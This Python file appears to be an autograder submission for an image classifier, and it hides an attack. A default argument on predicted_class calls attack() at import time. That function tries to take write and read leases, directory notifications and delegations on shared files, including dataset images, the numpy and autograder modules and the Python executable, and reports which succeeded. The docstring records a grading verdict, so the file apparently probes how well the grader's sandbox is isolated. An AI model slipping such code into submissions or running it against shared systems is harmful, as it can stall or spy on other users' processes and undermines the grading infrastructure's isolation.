# mypy: ignore-errors
"""Takes leases on shared files, for which others' `open` would wait, and asks what is done to them.

It prints TOOK for each that it got.
Verdict: first_prediction: finished, 12 points
"""

import fcntl
import os
import sys
from pathlib import Path

import numpy as np

F_SETDELEG = 1040
KEPT = []


def shared_files():
    images = [path for path in Path(os.environ["KERAS_HOME"]).rglob("*") if path.is_file()]
    modules = [module.__file__ for module in (np, os, sys.modules["autograder"])]
    return [*images[:3], *modules, sys.executable]


def attack():
    ways = {
        "a lease for writing": (fcntl.F_SETLEASE, fcntl.F_WRLCK),
        "a lease for reading": (fcntl.F_SETLEASE, fcntl.F_RDLCK),
        "news of a folder": (fcntl.F_NOTIFY, fcntl.DN_ACCESS | fcntl.DN_MODIFY),
        "a delegation": (F_SETDELEG, bytes(16)),
    }
    for path in shared_files():
        for name, (command, argument) in ways.items():
            opened = os.path.dirname(path) if command == fcntl.F_NOTIFY else path
            KEPT.append(os.open(opened, os.O_RDONLY))
            print("TRIED", name, flush=True)
            try:
                fcntl.fcntl(KEPT[-1], command, argument)
            except OSError as error:
                print("refused:", error, flush=True)
            else:
                print("TOOK", name, flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
